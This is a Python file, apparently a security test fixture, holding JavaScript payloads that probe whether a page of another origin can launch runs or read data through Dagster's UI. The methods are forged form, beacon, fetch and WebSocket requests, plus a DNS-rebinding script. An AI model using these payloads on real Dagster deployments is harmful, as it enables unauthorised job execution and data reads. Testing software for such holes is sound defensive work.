"""What a page of another origin tries to do with Dagster's UI in the browser of the operator, as JavaScript and HTML."""

import json

SELECTOR = '{repositoryName: "__repository__", repositoryLocationName: "tiny_location.py", jobName: "idle"}'
LAUNCH = f"mutation {{ launchRun(executionParams: {{selector: {SELECTOR}}}) {{ __typename }} }}"
RUNS = "{ runsOrError { ... on Runs { results { runId } } } }"
EVENTS = "subscription { locationStateChangeEvents { event { message } } }"

ATTACK = """
async (ui) => {
  const launch = LAUNCH, read = READ;
  const tried = {};
  const get = `${ui}/graphql?query=${encodeURIComponent(launch)}`;
  const attempt = async (name, verb) => {
    try { tried[name] = await verb(); } catch (error) { tried[name] = `refused: ${error}`; }
  };
  const sent = (url, options) => fetch(url, {mode: "no-cors", ...options}).then(answer => answer.type);
  const body = JSON.stringify({query: launch});
  await attempt("image", () => new Promise(done => {
    const image = new Image(); image.onload = image.onerror = () => done("sent"); image.src = get;
  }));
  await attempt("text", () => sent(`${ui}/graphql`, {method: "POST", body, headers: {"Content-Type": "text/plain"}}));
  await attempt("disguised", () => sent(
    `${ui}/graphql`, {method: "POST", body: new Blob([body], {type: "text/plain; application/json"})}));
  await attempt("query of a post", () => sent(get, {method: "POST", body: ""}));
  await attempt("json", () => fetch(
    `${ui}/graphql`, {method: "POST", body, headers: {"Content-Type": "application/json"}}).then(answer => answer.text()));
  await attempt("beacon", async () => navigator.sendBeacon(get, new Blob([body], {type: "text/plain; application/json"})));
  const inFrame = (method) => new Promise(done => {
    const frame = document.createElement("iframe"); frame.name = `frame-${method}`; document.body.append(frame);
    const form = document.createElement("form"); form.method = method; form.target = frame.name;
    form.action = method === "post" ? get : `${ui}/graphql`;
    const field = document.createElement("input"); field.name = "query"; field.value = launch;
    form.append(field); document.body.append(form);
    frame.onload = () => done("sent"); form.submit();
  });
  await attempt("form", () => inFrame("post"));
  await attempt("form by GET", () => inFrame("get"));
  await attempt("websocket", () => new Promise((done, failed) => {
    const socket = new WebSocket(`${ui.replace("http", "ws")}/graphql`, "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({type: "connection_init"}));
      socket.send(JSON.stringify({id: "1", type: "start", payload: {query: read}}));
    };
    socket.onmessage = message => JSON.parse(message.data).type === "connection_ack" && done("answered");
    socket.onerror = () => failed("closed");
  }));
  return tried;
}
""".replace("LAUNCH", json.dumps(LAUNCH)).replace("READ", json.dumps(EVENTS))
"""Given the UI's address: what came of each way to start a run or to read, without the permission of the UI."""

REBOUND = """
async () => {
  const ask = query => fetch("/graphql", {
    method: "POST", body: JSON.stringify({query}), headers: {"Content-Type": "application/json"}
  }).then(answer => answer.text());
  return [await ask(READ), await ask(LAUNCH)];
}
""".replace("LAUNCH", json.dumps(LAUNCH)).replace("READ", json.dumps(RUNS))
"""For a page whose host's name was bound to another machine when it was loaded, and to this one afterwards."""
